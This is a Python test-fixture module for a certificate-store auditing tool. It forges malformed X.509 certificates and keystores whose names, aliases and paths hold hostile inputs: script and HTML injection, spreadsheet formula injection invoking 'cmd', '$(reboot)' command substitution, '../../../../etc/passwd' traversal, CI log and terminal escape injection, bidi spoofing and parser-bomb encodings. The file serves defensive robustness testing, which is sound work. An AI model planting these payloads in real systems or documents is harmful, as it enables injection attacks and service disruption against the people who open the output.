"""Certificates no CA would issue, byte by byte, and stores that hold them all.

Whoever fills a store chooses these bytes; every one of them ends up in a report somebody
opens in a browser, a spreadsheet, a terminal or a build server.
"""

from __future__ import annotations

import functools
from pathlib import Path
from random import Random

from storekeeper import der, formats
from storekeeper.model import (
    Certificate,
    Entry,
    Password,
    PrivateKey,
    Sealed,
    Store,
    TrustedCert,
)
from tests import forge, pki

DAY = 86_400
AT = forge.AT
PASSWORD = "changeit"

SCRIPT = "<script>alert('owned')</script>"
BIDI = "good\u202ecod.live\u2066\u200f"

# name: text of the common name
TEXTS = {
    "script": SCRIPT,
    "image": "\"><img src=x onerror='alert(1)'>",
    "cdata": "]]>--><!--<![CDATA[&amp;&xxe;",
    "formula": '=HYPERLINK("http://a.example/?"&A1,"click")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-semicolon": "a;=1+1",
    "formula-wide": "\uff1d1+1",
    "bidi": BIDI,
    "control": "a\x00b\x07\x1b[31mred\x1b[0m\x1b]0;title\x07\x7f\x9b31m",
    "lines": "a\r\n::error::injected\n##[error]injected\u2028x\u2029y\x85z",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> $(reboot) `reboot` %s %n #{7*7}",
    "markdown": "[a](javascript:alert(1)) | **b** | `c` | ![d](http://a.example/d.png)",
    "metric": 'a"} 1\nx509_cert_not_after{a="\\',
    "nagios": "fine | errors=0;;;0 `reboot` $(reboot)",
    "path": "../../../../etc/passwd",
    "no-characters": "a\ufffe\uffffb",
    "tags": "a\U000e0041\U000e0042b\ufeff\u00adc",
    "combining": "Z" + "\u0335\u0489" * 200,
    "100-kB": "x" * 100_000,
    "nothing": "",
}  # fmt: skip

# name: DER of the value of a common name
VALUES = {
    "utf8-invalid": der.encode(der.UTF8_STRING, b"a\xff\xfe\xc0\xafb"),
    "utf8-surrogate": der.encode(der.UTF8_STRING, b"a\xed\xa0\x80b"),
    "bmp-odd": der.encode(0x1E, b"\x00a\x00"),
    "bmp-surrogate": der.encode(0x1E, b"\xd8\x00\x00a"),
    "universal-odd": der.encode(0x1C, b"\x00\x00\x00"),
    "universal-beyond": der.encode(0x1C, b"\xff\xff\xff\xff"),
    "printable-binary": der.encode(der.PRINTABLE_STRING, bytes(range(256))),
    "value-no-text": der.encode(2, b"\x01"),
    "value-deep": functools.reduce(lambda inner, _: der.sequence(inner), range(60), der.null()),
}

_OWN = "hostile"


def _name(value: bytes) -> bytes:
    return der.sequence(der.encode(0x31, der.sequence(der.oid("2.5.4.3"), value)))


def _text_name(text: str) -> bytes:
    return _name(der.encode(der.UTF8_STRING, text.encode("utf-8", "surrogatepass")))


def made(
    *extensions: bytes,
    subject: bytes | None = None,
    serial: bytes | None = None,
    start: bytes | None = None,
    end: bytes | None = None,
    spki: bytes | None = None,
    version: int = 3,
) -> bytes:
    """A self-issued certificate, signed by its key, or by another where it has none that signs."""
    own = forge.key_of_seed(_OWN)
    subject = _text_name("plain") if subject is None else subject
    validity = der.sequence(
        forge.when(AT - 100 * DAY) if start is None else start,
        forge.when(AT + 2000 * DAY) if end is None else end,
    )
    tbs = der.sequence(
        *([der.explicit(0, der.integer(version - 1))] if version > 1 else []),
        der.integer(77) if serial is None else serial,
        forge.algorithm("SHA256withECDSA"),
        subject,
        validity,
        subject,
        forge.spki(own) if spki is None else spki,
        *([der.explicit(3, der.sequence(*extensions))] if extensions else []),
    )
    signature = forge.sign(own, "SHA256withECDSA", tbs)
    return der.sequence(tbs, forge.algorithm("SHA256withECDSA"), der.bit_string(signature))


def _spki(oid: str, key: bytes, *parameters: bytes) -> bytes:
    return der.sequence(der.sequence(der.oid(oid), *parameters), der.bit_string(key))


def _date(text: str) -> bytes:
    return der.encode(0x18, text.encode())


def _rsa(bits: int) -> bytes:
    modulus = (1 << bits) - 1
    return der.sequence(der.integer(modulus), der.integer(65537))


@functools.cache
def certificates() -> dict[str, bytes]:
    """Name and encoding of each, in a fixed order; a megabyte in all."""
    ca = forge.basic()
    found = {f"subject-{name}": made(ca, subject=_text_name(text)) for name, text in TEXTS.items()}
    found |= {f"subject-{name}": made(ca, subject=_name(value)) for name, value in VALUES.items()}
    found |= {
        "no-subject": made(ca, subject=der.sequence()),
        "subject-many": made(
            ca,
            subject=der.sequence(*[_text_name(f"part {n}")[2:] for n in range(2000)]),
        ),
        "serial-negative": made(ca, serial=der.integer(-5)),
        "serial-zero": made(ca, serial=der.integer(0)),
        "serial-10-kB": made(ca, serial=der.encode(2, b"\x7f" + b"\xff" * 10_000)),
        "serial-10-kB-negative": made(ca, serial=der.encode(2, b"\x80" + b"\x01" * 10_000)),
        "key-unknown": made(ca, spki=_spki("1.3.6.1.4.1.99999.1", b"key")),
        "key-unknown-curve": made(
            ca, spki=_spki("1.2.840.10045.2.1", b"\x04" + b"k" * 64, der.oid("1.3.6.1.4.1.99999.2"))
        ),
        "key-ml-dsa-65": made(ca, spki=_spki("2.16.840.1.101.3.4.3.18", bytes(1952))),
        "key-ml-kem-768": made(spki=_spki("2.16.840.1.101.3.4.4.2", bytes(1184))),
        "key-rsa-8": made(ca, spki=_spki("1.2.840.113549.1.1.1", _rsa(8), der.null())),
        "key-rsa-200000": made(ca, spki=_spki("1.2.840.113549.1.1.1", _rsa(200_000), der.null())),
        "key-no-key": made(ca, spki=_spki("1.2.840.113549.1.1.1", b"", der.null())),
        "key-empty": made(ca, spki=der.sequence()),
        "dates-9999": made(ca, end=_date("99991231235959Z")),
        "dates-past-9999": made(ca, end=_date("99991231235959-2359")),
        "dates-before-0000": made(ca, start=_date("00000101000000+2359")),
        "dates-malformed": made(ca, start=_date("yesterday"), end=_date("20269999999999Z")),
        "dates-no-dates": made(ca, start=der.null(), end=der.null()),
        "dates-reversed": made(ca, start=forge.when(AT + 9 * DAY), end=forge.when(AT - 9 * DAY)),
        "dates-markup": made(ca, end=der.encode(0x17, SCRIPT.encode())),
        "extension-twice": made(ca, ca, forge.basic(False)),
        "extension-garbage": made(forge.extension("2.5.29.19", b"\xff\xff\xff")),
        "extension-10000": made(
            *[forge.extension(f"1.3.6.1.4.1.99999.{n}", b"") for n in range(10_000)]
        ),
        "san-hostile": made(
            forge.names(
                *(("dns", text.encode("utf-8", "surrogatepass")[:300]) for text in TEXTS.values()),
                ("ip", b"\x01"),
                ("uri", "javascript:alert(1)"),
                ("dir", b"\x30\x80"),
            )
        ),
        "version-1": made(version=1),
        "version-9": made(ca, version=9),
        "no-certificate": b"no certificate",
        "empty": b"",
        "cut": made(ca)[:-40],
        "trailing": made(ca) + b"trailing bytes",
        "length-huge": b"\x30\x88\x7f" + b"\xff" * 7,
        "length-indefinite": b"\x30\x80" * 2000,
        "deep": b"\x30\x82\xff\xff" * 3000,
        "html": f"<html>{SCRIPT}</html>".encode(),
    }
    return found


@functools.cache
def huge() -> bytes:
    """A certificate with ten megabytes of alternative names."""
    return made(forge.names(*(("dns", f"host{n:07}.example.com") for n in range(430_000))))


def mutated(number: int, count: int = 40) -> Store:
    """A store of damaged certificates and keys with damaged chains, the same for a number."""
    random = Random(number)
    seeds = [one for one in certificates().values() if len(one) < 20_000]
    seeds += [pki.certificate("web", "Example Root"), pki.certificate("Example Root")]
    texts = [text[:100] for text in TEXTS.values()]
    found = [Certificate(_damaged(random, random.choice(seeds))) for _ in range(count)]
    entries: list[Entry] = [
        TrustedCert(f"{random.choice(texts)}{place}", one) for place, one in enumerate(found)
    ]
    sealed = Sealed("none", b"key", _never_opened)
    for place in range(count // 4):
        chain = tuple(random.choices(found, k=random.randrange(4)))
        entries.append(PrivateKey(f"{random.choice(texts)} key {place}", chain, sealed))
    return Store("JKS", tuple(entries), path=f"/srv/{random.choice(texts)}")


def _never_opened(_data: bytes, _password: Password | None) -> bytes:
    raise AssertionError("an audit opens no key")


def _damaged(random: Random, one: bytes) -> bytes:
    data = bytearray(one)
    for _ in range(random.choice((0, 1, 1, 2, 5))):
        at = random.randrange(len(data) + 1)
        match random.randrange(4):
            case 0:
                data[at : at + 1] = bytes([random.randrange(256)])
            case 1:
                del data[at : at + random.randrange(1, 4)]
            case 2:
                data[at:at] = random.randbytes(random.randrange(1, 4))
            case _:
                data[at : at + 1] = bytes(
                    octet ^ 1 << random.randrange(8) for octet in data[at : at + 1]
                )
    return bytes(data)


def aliases() -> dict[str, str]:
    """An alias for each certificate: its name, or for those with a text that text."""
    return {name: TEXTS.get(name.removeprefix("subject-"), name)[:500] or name
            for name in certificates()}  # fmt: skip


def store(format: str = "JKS", *more: bytes) -> Store:
    """A store of all of them, with ``more`` certificates at its end.

    Aliases of a PKCS12 and of a JKS may be nearly anything; those of a PEM are comments.
    """
    named = aliases() if format != "PEM" else {name: name for name in certificates()}
    entries = [
        TrustedCert(f"{number}{named[name]}" if number % 2 else named[name], Certificate(one))
        for number, (name, one) in enumerate(certificates().items())
    ]
    entries += [TrustedCert(f"more {n}", Certificate(one)) for n, one in enumerate(more)]
    return Store(format, tuple(entries))


def written(folder: Path, format: str, *more: bytes) -> Path:
    """The file of such a store, below a folder whose name is hostile, too."""
    path = folder / "<b>&amp;\u202egnp" / f"=cmd|{format}"
    path.parent.mkdir(exist_ok=True)
    if format == "PEM":
        blocks = [pki.pem("CERTIFICATE", one) for one in (*certificates().values(), *more)]
        path.write_bytes(b"".join(blocks))
    else:
        path.write_bytes(formats.write(store(format, *more), PASSWORD))
    return path
